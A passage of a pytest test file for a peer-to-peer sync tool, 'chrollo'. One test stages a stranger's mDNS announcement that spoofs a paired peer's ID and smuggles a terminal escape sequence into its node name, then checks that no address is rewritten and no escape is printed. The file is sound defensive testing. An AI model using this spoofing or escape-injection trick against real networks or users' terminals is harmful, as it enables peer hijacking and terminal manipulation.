    assert p.returncode == 0, p.stderr
    assert not any(b"hooli" in v for v in a.peer_files("bravo").values()), out
    assert a.peer_files("bravo") and a.peer_files("charlie")  # (the rest still taken)
    p, out = run_json(["mesh", "sync", *args], a.home, CHROLLO_NOW=t2)
    assert not any(b"hooli" in v for v in a.peer_files("bravo").values()), out


# ------------------------- 12. an mDNS announcement by a stranger: no address rewritten, no escapes

STRANGER = r"""
set -e
ip link set lo up; ip link set lo multicast on; ip route add 224.0.0.0/4 dev lo
CHROLLO_HOME="$E_HOME" "$PY" -m chrollo mesh serve --port 0 2> "$E_ERR" &
SERVER=$!
for i in $(seq 50); do grep -q "serving on" "$E_ERR" 2>/dev/null && break; sleep 0.1; done
PORT=$(sed -n 's/.*127.0.0.1:\([0-9]*\).*/\1/p' "$E_ERR" | head -1)
"$PY" - "$PORT" <<'PYEOF' &
import socket, sys, time, zeroconf
zc = zeroconf.Zeroconf(interfaces=["127.0.0.1"])
info = zeroconf.ServiceInfo("_chrollo._tcp.local.", "evil._chrollo._tcp.local.", addresses=[socket.inet_aton("127.0.0.1")],
                            port=int(sys.argv[1]), properties={"node": "\x1b]0;pwned\x07evil", "id": sys.argv[2] if len(sys.argv) > 2 else __import__("os").environ["B_ID"], "v": "2"})
zc.register_service(info)
time.sleep(20)
PYEOF
ANNOUNCER=$!
sleep 1
"$PY" -m chrollo mesh peers discover --add --timeout 3
kill $SERVER $ANNOUNCER
"""


def test_a_strangers_mdns_announcement_of_a_paired_id_rewrites_nothing_and_prints_no_escape(mesh, tmp_path):
    pytest.importorskip("zeroconf")
    probe = subprocess.run(["unshare", "-rn", "true"], capture_output=True) if shutil.which("unshare") else None
    if probe is None or probe.returncode != 0:
        pytest.skip("cannot create a private network namespace here (unshare -rn)")
    a, b = two(mesh)
    a.cli("mesh", "peers", "set", "bravo", "--address", "10.9.9.9:47470")
    eve = mesh("eve")
    env = cli_env(a.home, PY=sys.executable, E_HOME=str(eve.home), E_ERR=str(tmp_path / "e.err"), B_ID=b.id)
    p = subprocess.run(["unshare", "-rn", "sh", "-c", STRANGER], capture_output=True, text=True, env=env, timeout=90)
    assert "evil" in p.stdout + p.stderr, (p.stdout, p.stderr)  # it was heard
    assert "\x1b" not in p.stdout + p.stderr and "\x07" not in p.stdout + p.stderr
    peers = json.loads(a.cli("mesh", "peers", "--json").stdout)["peers"]
    assert [x["address"] for x in peers if x["name"] == "bravo"] == ["10.9.9.9:47470"]
